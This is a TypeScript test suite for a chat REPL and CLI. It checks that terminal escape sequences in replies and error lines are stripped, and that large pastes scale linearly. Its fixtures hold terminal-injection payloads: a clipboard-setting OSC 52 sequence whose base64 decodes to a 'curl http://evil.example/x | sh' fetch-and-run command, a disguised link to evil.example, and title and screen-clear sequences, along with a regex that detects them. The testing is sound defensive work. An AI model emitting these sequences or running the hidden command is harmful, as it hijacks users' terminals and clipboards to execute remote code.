// Issue 12, "the terminal is the user's": a reply or an error can carry escape sequences (OSC 52
// sets the clipboard, OSC 0/2 the title, CSI 2J clears the screen, OSC 8 disguises a link). None
// reaches the terminal — in the REPL, in one-shot/piped output, in error lines — unless --raw asks
// for the bytes. And a paste of 100 KB or 1 MB into the REPL costs time linear in its size.
import { suite } from "uvu";
import * as assert from "uvu/assert";
import { existsSync } from "node:fs";
import { join } from "node:path";
import { render } from "ink-testing-library";
import * as library from "../../src/index.js";
import { Conversation } from "../../src/index.js";
import { ChatController } from "../../repl/chat/controller.js";
import { InputHistory } from "../../repl/chat/input-history.js";
import { COMMANDS } from "../../repl/commands/index.js";
import { App } from "../../repl/ui/App.js";
import { loadMarkdownRenderer, plainRenderer, type MarkdownRenderer } from "../../repl/ui/render-markdown.js";
import { strip } from "./harness.js";
import { cli, runChat, type ChatRun } from "./chat-cli.js";
import { eventually } from "../helpers/eventually.js";
import { scriptedClient, textChunks } from "../helpers/scripted-client.js";
import { tempDir } from "../helpers/temp-dir.js";

const CLIPBOARD = "\x1b]52;c;Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3ggfCBzaA==\x07";
const TITLE = "\x1b]0;pwned\x07\x1b]2;pwned\x1b\\";
const CLEAR = "\x1b[2J\x1b[3J\x1b[H";
const LINK = "\x1b]8;;http://evil.example/x\x1b\\docs\x1b]8;;\x1b\\";
const HOSTILE = `Hello ${CLIPBOARD}there ${TITLE}friend ${CLEAR}see ${LINK}.\u009b2J\u009d0;c1\u0007 end`;
/** What the terminal must never be sent: OSC of any kind, a CSI other than colours, C1 controls. */
const DRIVES = /\x1b\]|\x1b\[[0-9;?]*[A-HJKSTfhlnsu]|[\u0080-\u009f]/;

function mountScripted(reply: string, render$: MarkdownRenderer) {
  // split every few characters, so sequences straddle chunks
  const pieces = reply.match(/[\s\S]{1,5}/g) ?? [];
  const client = scriptedClient([{ chunks: textChunks(pieces), pauseAt: -1, gapMs: 1 }]);
  const controller = new ChatController({
    client, conversation: new Conversation({ client, endpoint: "fake" }), session: { kind: "databricks", description: "fake" }, library,
    commands: COMMANDS, history: InputHistory.load(undefined), flushMs: 5, writeTerminal: () => undefined,
  });
  const app = render(<App controller={controller} render={render$} />);
  return { controller, app };
}

const repl = suite("the interactive REPL keeps the terminal");

for (const [name, renderer] of [["as typed", async () => plainRenderer], ["as Markdown", loadMarkdownRenderer]] as const) {
  repl(`a reply's clipboard, title, clear and link sequences never reach the screen (${name})`, async () => {
    const { app } = mountScripted(HOSTILE, await renderer());
    app.stdin.write("go\r");
    await eventually(() => !strip(app.lastFrame()).includes("streaming") && strip(app.lastFrame()).includes(" end"), { message: () => `reply did not finish:\n${app.lastFrame()}` });
    const everything = app.frames.join("\n");
    assert.not.match(everything, DRIVES, JSON.stringify(everything.match(DRIVES)));
    assert.match(strip(app.lastFrame()), /Hello there friend see docs\. end/, strip(app.lastFrame()));
    app.unmount();
  });
}

repl("error lines and command output from a server are cleaned too", async () => {
  const { controller, app } = mountScripted("ok", plainRenderer);
  controller.fail(`Endpoint 'x${TITLE}' not found${CLEAR}`, `Try ${CLIPBOARD}again`);
  controller.print(`info ${LINK}`);
  await eventually(() => strip(app.lastFrame()).includes("Try again") && strip(app.lastFrame()).includes("info docs"));
  assert.not.match(app.frames.join("\n"), DRIVES);
  app.unmount();
});

const paste = suite("pasting into the REPL");

async function pasteCpuMs(size: number): Promise<{ ms: number; frame: string }> {
  const client = scriptedClient([]);
  const controller = new ChatController({
    client, conversation: new Conversation({ client, endpoint: "fake" }), session: { kind: "databricks", description: "fake" }, library,
    commands: COMMANDS, history: InputHistory.load(undefined), flushMs: 5, writeTerminal: () => undefined,
  });
  const app = render(<App controller={controller} render={plainRenderer} />);
  const line = "pasted text line with some words in it, seventy characters or so....\n";
  const text = line.repeat(Math.ceil(size / line.length)).slice(0, size - 4) + "TAIL";
  const before = process.cpuUsage();
  // a terminal delivers a paste in reads of a few KB, between the bracketed-paste markers
  app.stdin.write("\x1b[200~");
  for (let i = 0; i < text.length; i += 4096) app.stdin.write(text.slice(i, i + 4096));
  app.stdin.write("\x1b[201~");
  const frame = await eventually(() => { const f = strip(app.lastFrame()); return f.includes("TAIL") ? f : false; }, { timeoutMs: 60_000, message: () => `paste of ${size} B not shown:\n${strip(app.lastFrame())}` });
  const used = process.cpuUsage(before);
  app.unmount();
  return { ms: (used.user + used.system) / 1000, frame };
}

paste("100 KB and 1 MB pastes become one edit: CPU grows linearly, and the input shows a window around the cursor", async () => {
  await pasteCpuMs(10_000); // warm-up: JIT, Ink's first layout
  const small = await pasteCpuMs(100_000);
  const big = await pasteCpuMs(1_000_000);
  // quadratic would be 100× for 10× the text; allow noise up to 25× (and a floor for tiny timings)
  assert.ok(big.ms < Math.max(small.ms, 50) * 25, `100 KB: ${small.ms.toFixed(0)} ms, 1 MB: ${big.ms.toFixed(0)} ms of CPU`);
  assert.ok(big.ms < 20_000, `1 MB paste took ${big.ms.toFixed(0)} ms of CPU`);
  assert.match(big.frame, /… [\d,]+ more characters above/);
  assert.ok(big.frame.split("\n").length < 60, `the frame has ${big.frame.split("\n").length} lines`);
});

const home = tempDir("dd-safety-");
const env: NodeJS.ProcessEnv = { PATH: process.env.PATH, HOME: home, DATABRICKS_DEPLOYMENTS_DATA_DIR: join(home, "data"), DATABRICKS_CONFIG_FILE: join(home, "none.cfg"), NO_COLOR: "1" };

const run = (args: string[]): Promise<ChatRun> => runChat(args, env);

const oneShot = suite("one-shot and piped output");
oneShot.before(() => assert.ok(existsSync(cli), `build first: ${cli}`));

oneShot("the reply (which quotes the hostile question) is printed without control sequences; --raw keeps the bytes", async () => {
  // the simulated model quotes the question in its reply: the question is the model text here
  const clean = await run(["-e", "chat", HOSTILE]);
  assert.is(clean.code, 0, clean.err);
  assert.match(clean.out, /> Hello there friend see docs\. end/);
  assert.not.match(clean.out, DRIVES, JSON.stringify(clean.out.match(DRIVES)));
  const raw = await run(["-e", "chat", "--raw", HOSTILE]);
  assert.is(raw.code, 0, raw.err);
  assert.ok(raw.out.includes(CLIPBOARD) && raw.out.includes("\x1b]0;pwned\x07"), "--raw passes the bytes through");
});

oneShot("an error line that quotes hostile input is cleaned", async () => {
  const r = await run(["-e", `nope${TITLE}${CLEAR}`, "hi"]);
  assert.is(r.code, 1);
  assert.match(r.err, /RESOURCE_DOES_NOT_EXIST/);
  assert.not.match(r.err, DRIVES, JSON.stringify(r.err));
});

repl.run();
paste.run();
oneShot.run();
